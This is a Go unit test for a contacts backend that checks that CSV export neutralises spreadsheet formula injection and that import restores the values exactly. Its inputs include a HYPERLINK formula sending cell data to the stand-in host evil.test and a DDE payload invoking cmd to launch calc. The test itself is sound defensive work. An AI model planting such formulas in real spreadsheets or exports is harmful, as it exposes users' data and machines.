package core_test

import (
	"encoding/csv"
	"strings"
	"testing"

	"grantbook/backend/core"
)

// Cells a spreadsheet would run as a formula are exported behind a ', and
// an import takes that ' off again: the round trip loses nothing, values
// that begin with ' included.
func TestCSVFormulaCellsAreNeutralised(t *testing.T) {
	f := newFixture(t)
	in := f.input()
	in.FirstName, in.LastName = `=HYPERLINK("http://evil.test?"&A1,"Click")`, "-2+3"
	in.Company, in.Role, in.Phone = "@SUM(1+1)*cmd|' /C calc'!A0", "'quoted", "+44 20 7946 0000"
	c := must(f.app.CreateContact(bg, in))
	// Tabs and carriage returns cannot be typed into a name, but a restored
	// database may hold them.
	if _, err := f.app.StoreForTest().DB().Exec(`UPDATE contacts SET email = 'tab@example.com', account_type = char(9) || 'individual' WHERE id = ?`, c.ID); err != nil {
		t.Fatal(err)
	}
	if _, err := f.app.StoreForTest().DB().Exec(`UPDATE grants SET preset = char(13) || 'billing' WHERE contact_id = ?`, c.ID); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(f.export(t, f.acc.ID))).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("export: %v %q", err, rows)
	}
	for i, want := range map[int]string{
		0: `'=HYPERLINK("http://evil.test?"&A1,"Click")`, 1: "'-2+3", 3: "'+44 20 7946 0000",
		4: "'@SUM(1+1)*cmd|' /C calc'!A0", 5: "''quoted", 6: "'\tindividual", 7: "'\rbilling",
		2: "tab@example.com", 11: "active",
	} {
		if rows[1][i] != want {
			t.Errorf("%s exported as %q, want %q", core.CSVColumns[i], rows[1][i], want)
		}
	}

	// Back in, through a fresh export of the untouched contact: every value
	// comes back as it was.
	if _, err := f.app.StoreForTest().DB().Exec(`UPDATE contacts SET account_type = 'individual' WHERE id = ?`, c.ID); err != nil {
		t.Fatal(err)
	}
	if _, err := f.app.StoreForTest().DB().Exec(`UPDATE grants SET preset = 'billing' WHERE contact_id = ?`, c.ID); err != nil {
		t.Fatal(err)
	}
	c = must(f.app.Contact(bg, c.ID))
	exported := f.export(t, f.acc.ID)
	if err := f.app.DeleteContact(bg, c.ID); err != nil {
		t.Fatal(err)
	}
	if p := f.importCSV(t, f.acc.ID, exported); p.State != core.ImportDone {
		t.Fatalf("import: %+v", p)
	}
	sameContact(t, f.accountContacts(t, f.acc.ID)["tab@example.com"], c)

	// A file written by hand follows the same rule: one leading ' is taken
	// off, so '' stands for a value that begins with '.
	p := f.importCSV(t, f.other.ID, oldHeader+"'=1+1,''O'Brien,hand@example.com,'+1 555 0100,,,,,,,,\n")
	if p.State != core.ImportDone {
		t.Fatalf("hand-written import: %+v", p)
	}
	h := f.accountContacts(t, f.other.ID)["hand@example.com"]
	if h == nil || h.FirstName != "=1+1" || h.LastName != "'O'Brien" || h.Phone != "+1 555 0100" {
		t.Errorf("hand-written row imported as %+v", h)
	}
}
